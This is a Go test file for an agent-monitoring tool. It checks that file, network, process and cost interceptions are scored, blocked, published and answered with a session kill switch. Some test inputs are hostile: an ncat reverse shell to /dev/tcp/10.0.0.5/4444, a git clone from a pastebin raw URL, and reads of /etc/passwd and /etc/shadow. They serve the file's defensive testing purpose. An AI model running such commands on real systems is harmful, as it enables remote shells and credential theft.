package monitor

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xkilldash9x/warden/api/schemas"
	"github.com/xkilldash9x/warden/internal/bus"
	"github.com/xkilldash9x/warden/internal/intel"
	"github.com/xkilldash9x/warden/internal/killswitch"
	"github.com/xkilldash9x/warden/internal/observability"
	"github.com/xkilldash9x/warden/internal/policy"
	"github.com/xkilldash9x/warden/internal/store"
	"go.uber.org/goleak"
	"go.uber.org/zap/zaptest"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

type fixture struct {
	monitor *Monitor
	store   store.Store
	bus     *bus.Bus
	intel   *intel.Intelligence
	ctx     context.Context
}

func newFixture(t *testing.T, autoKill bool, mutate func(*policy.SecurityPolicy)) *fixture {
	t.Helper()
	logger := zaptest.NewLogger(t)

	doc := policy.Default()
	if mutate != nil {
		mutate(&doc)
	}
	engine := policy.NewEngine(doc, logger)

	st := store.NewMem()
	b := bus.New(logger, 16)
	t.Cleanup(b.Shutdown)

	ti := intel.New(st, logger)
	metrics := observability.NewMetrics(nil)
	killer := killswitch.New(st, b, metrics, logger)

	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)

	return &fixture{
		monitor: New(engine, ti, st, b, killer, metrics, autoKill, logger),
		store:   st,
		bus:     b,
		intel:   ti,
		ctx:     ctx,
	}
}

func act() Action {
	return Action{SessionID: "sess-1", AgentID: "agent-1"}
}

func TestInterceptFileAccess_CleanActionIsRecordedAndAllowed(t *testing.T) {
	f := newFixture(t, true, nil)

	detected, unsub := f.bus.Subscribe(schemas.ChanBehaviorDetected)
	defer unsub()

	res, err := f.monitor.InterceptFileAccess(f.ctx, act(), "./package.json", "read", 512)
	require.NoError(t, err)

	assert.True(t, res.Allowed)
	assert.Nil(t, res.Detection)
	assert.Equal(t, schemas.ThreatNone, res.Event.ThreatLevel)
	assert.NotEmpty(t, res.Event.EventID, "clean actions are still persisted")
	assert.Empty(t, detected, "no verdict means no bus traffic")

	// Full session reconstruction needs the none-severity record too.
	threats, err := f.store.GetThreats(f.ctx, "sess-1", schemas.ThreatNone)
	require.NoError(t, err)
	assert.Len(t, threats, 1)
}

func TestInterceptNetworkRequest_BlockedPublishesBothChannels(t *testing.T) {
	f := newFixture(t, false, nil)

	detected, unsubD := f.bus.Subscribe(schemas.ChanBehaviorDetected)
	defer unsubD()
	blocked, unsubB := f.bus.Subscribe(schemas.ChanBehaviorBlocked)
	defer unsubB()

	res, err := f.monitor.InterceptNetworkRequest(f.ctx, act(), "https://example.com/x", "GET", "example.com")
	require.NoError(t, err)

	assert.False(t, res.Allowed)
	require.NotNil(t, res.Detection)
	assert.Equal(t, policy.SigExternalBlocked, res.Detection.ThreatSignature)

	msg := <-detected
	noticeD := msg.Payload.(schemas.BehaviorNotice)
	assert.Equal(t, res.Event.EventID, noticeD.EventID)
	assert.Empty(t, noticeD.Action)

	msg = <-blocked
	noticeB := msg.Payload.(schemas.BehaviorNotice)
	assert.Equal(t, res.Event.EventID, noticeB.EventID)
	assert.True(t, noticeB.Blocked)
}

func TestInterceptProcessSpawn_SignaturesSynthesizeVerdict(t *testing.T) {
	f := newFixture(t, false, nil)

	// "git" is allow-listed so no policy verdict results, but the command
	// line hits the paste-site dead-drop signature.
	res, err := f.monitor.InterceptProcessSpawn(f.ctx, act(), "git", []string{"clone", "https://pastebin.com/raw/abc123"})
	require.NoError(t, err)

	require.NotNil(t, res.Detection)
	assert.Equal(t, SigMatch, res.Detection.ThreatSignature)
	assert.Equal(t, schemas.ThreatHigh, res.Detection.ThreatLevel)
	assert.True(t, res.Detection.Blocked, "a high signature-only verdict still blocks")
	assert.False(t, res.Allowed)
}

func TestInterceptProcessSpawn_SignatureUpgradesPolicyVerdict(t *testing.T) {
	f := newFixture(t, true, nil)

	// Unlisted command is only medium/flag-only on its own; the reverse
	// shell signature escalates it to critical, which forces the block
	// and fires the kill switch.
	res, err := f.monitor.InterceptProcessSpawn(f.ctx, act(), "ncat", []string{"/dev/tcp/10.0.0.5/4444"})
	require.NoError(t, err)

	require.NotNil(t, res.Detection)
	assert.Equal(t, schemas.ThreatCritical, res.Detection.ThreatLevel)
	assert.Equal(t, policy.SigUnlistedCommand, res.Detection.ThreatSignature,
		"the policy signature survives the severity upgrade")
	assert.True(t, res.Detection.Blocked)
	assert.False(t, res.Allowed)
	require.NotNil(t, res.Kill)
	assert.True(t, res.Kill.Terminated)

	active, err := f.store.ActiveSessions(f.ctx, "agent-1")
	require.NoError(t, err)
	assert.Empty(t, active)
}

func TestInterceptCostUsage_SpikeDetection(t *testing.T) {
	f := newFixture(t, false, nil)

	// Establish a small baseline; each sample stays under the 3x spike
	// threshold relative to the window so far.
	for i := 0; i < 3; i++ {
		res, err := f.monitor.InterceptCostUsage(f.ctx, act(), 2)
		require.NoError(t, err)
		assert.False(t, res.Anomaly)
	}

	// 20 tokens against a trailing average of 2 is a 10x spike: at or
	// above 2x the 3x threshold, so critical and blocked.
	res, err := f.monitor.InterceptCostUsage(f.ctx, act(), 20)
	require.NoError(t, err)

	assert.True(t, res.Anomaly)
	require.NotNil(t, res.Detection)
	assert.Equal(t, schemas.ThreatCritical, res.Detection.ThreatLevel)
	assert.Equal(t, policy.SigCostSpike, res.Detection.ThreatSignature)
	assert.False(t, res.Allowed)
}

func TestIntercept_SkillThreatsFeedTrustLedger(t *testing.T) {
	f := newFixture(t, false, nil)
	action := Action{SessionID: "sess-1", AgentID: "agent-1", SkillID: "skill-web"}

	_, err := f.monitor.InterceptNetworkRequest(f.ctx, action, "https://example.com/", "GET", "example.com")
	require.NoError(t, err)

	trust, err := f.store.GetSkillTrust(f.ctx, "skill-web")
	require.NoError(t, err)
	require.NotNil(t, trust)
	assert.Equal(t, schemas.TrustUntrusted, trust.TrustLevel)
	assert.Equal(t, 1, trust.ThreatHistory)
}

func TestIntercept_CleanActionLeavesSkillTrustAlone(t *testing.T) {
	f := newFixture(t, false, nil)
	action := Action{SessionID: "sess-1", AgentID: "agent-1", SkillID: "skill-web"}

	_, err := f.monitor.InterceptFileAccess(f.ctx, action, "./README.md", "read", 64)
	require.NoError(t, err)

	trust, err := f.store.GetSkillTrust(f.ctx, "skill-web")
	require.NoError(t, err)
	assert.Nil(t, trust, "only threats feed the trust ledger")
}

func TestScenario_SensitiveReadAfterCleanReadKillsSession(t *testing.T) {
	f := newFixture(t, true, nil)

	blocked, unsub := f.bus.Subscribe(schemas.ChanBehaviorBlocked)
	defer unsub()

	res, err := f.monitor.InterceptFileAccess(f.ctx, act(), "./package.json", "read", 1024)
	require.NoError(t, err)
	assert.True(t, res.Allowed)

	res, err = f.monitor.InterceptFileAccess(f.ctx, act(), "/etc/passwd", "read", 0)
	require.NoError(t, err)
	assert.False(t, res.Allowed)
	require.NotNil(t, res.Detection)
	assert.Equal(t, schemas.ThreatCritical, res.Detection.ThreatLevel)
	require.NotNil(t, res.Kill)

	// Exactly one blocked publication from the detection and one from the
	// kill switch, in that order.
	first := (<-blocked).Payload.(schemas.BehaviorNotice)
	assert.Equal(t, policy.SigSensitivePath, first.ThreatSignature)
	assert.Empty(t, first.Action)

	second := (<-blocked).Payload.(schemas.BehaviorNotice)
	assert.Equal(t, killswitch.SigKillSwitch, second.ThreatSignature)
	assert.Equal(t, schemas.ActionKillSwitch, second.Action)

	assert.Empty(t, blocked, "no further blocked notices")

	active, err := f.store.ActiveSessions(f.ctx, "agent-1")
	require.NoError(t, err)
	assert.Empty(t, active, "the agent ends the scenario with zero active sessions")
}

func TestIntercept_AutoKillDisabledLeavesSessionActive(t *testing.T) {
	f := newFixture(t, false, nil)

	res, err := f.monitor.InterceptFileAccess(f.ctx, act(), "/etc/shadow", "read", 0)
	require.NoError(t, err)
	assert.False(t, res.Allowed)
	assert.Nil(t, res.Kill)

	active, err := f.store.ActiveSessions(f.ctx, "agent-1")
	require.NoError(t, err)
	assert.Contains(t, active, "sess-1")
}
